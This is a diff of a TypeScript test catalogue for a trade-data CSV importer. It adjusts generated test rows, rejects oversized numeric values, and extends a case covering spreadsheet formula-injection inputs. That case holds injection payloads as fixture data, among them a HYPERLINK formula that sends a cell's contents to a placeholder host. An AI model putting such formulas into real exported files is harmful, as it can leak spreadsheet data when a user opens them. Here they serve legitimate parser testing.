@@ -229,9 +229,11 @@ function concat(...parts: Uint8Array[]): Uint8Array {
 function manyRows(n: number, from = 0): string[] {
 	const partners = ['KAZ', 'UZB', 'KGZ', 'TJK', 'TKM'];
 	const out: string[] = [];
+	// Every row its own cell (month × partner × sector repeat every 5,820 rows; the year moves on
+	// then): a cell given twice is one figure, never two (src/lib/data/import/cells.ts).
 	for (let i = from; i < from + n; i++) {
 		out.push(
-			`${2000 + (i % 24)}-${String(1 + (i % 12)).padStart(2, '0')},${partners[i % 5]},${i % 2 ? 'import' : 'export'},ITA,${String(i % 97).padStart(2, '0')},,${i}.5,EUR,Eurostat Comext,,`
+			`${1900 + Math.floor(i / 5820)}-${String(1 + (i % 12)).padStart(2, '0')},${partners[i % 5]},${i % 2 ? 'import' : 'export'},ITA,${String(i % 97).padStart(2, '0')},,${i}.5,EUR,Eurostat Comext,,`
 		);
 	}
 	return out;
@@ -1272,11 +1274,11 @@ const E: CatalogueCase[] = [
 					row({ value: '9007199254740993', partner: 'UZB' })
 				])
 			),
-		expected: 'parse',
-		rows: [
-			{ sector: '12345678901234567890', note: '98765432109876543210', value: 1 },
-			{ value: Number('9007199254740993') }
-		]
+		// A value above 1e15 is no trade figure (and sums of such values overflow): rejected.
+		expected: 'partial',
+		counts: { read: 2, accepted: 1, rejected: 1 },
+		rows: [{ sector: '12345678901234567890', note: '98765432109876543210', value: 1 }],
+		rejections: [{ line: 3, code: 'number-too-large', column: 7 }]
 	},
 	{
 		kind: 'file',
@@ -1490,17 +1492,17 @@ const F: CatalogueCase[] = [
 			utf8(
 				tpl([
 					row({ note: q('=HYPERLINK("http://x?"&A1)') }),
-					row({ note: '+1', label: '-1+1' }),
-					row({ note: '@SUM(A1)', label: q('\t=1') }),
-					row({ note: q('\r=1'), label: q('\n=1') })
+					row({ note: '+1', label: '-1+1', partner: 'UZB' }),
+					row({ note: '@SUM(A1)', label: q('\t=1'), partner: 'KGZ' }),
+					row({ note: q('\r=1'), label: q('\n=1'), partner: 'TJK' })
 				])
 			),
 		expected: 'parse',
 		rows: [
 			{ note: '=HYPERLINK("http://x?"&A1)' },
-			{ note: '+1', sectorLabel: '-1+1' },
-			{ note: '@SUM(A1)', sectorLabel: '=1' },
-			{ note: '=1', sectorLabel: '=1' }
+			{ note: '+1', sectorLabel: '-1+1', partner: 'UZB' },
+			{ note: '@SUM(A1)', sectorLabel: '=1', partner: 'KGZ' },
+			{ note: '=1', sectorLabel: '=1', partner: 'TJK' }
 		]
 	},
 	{
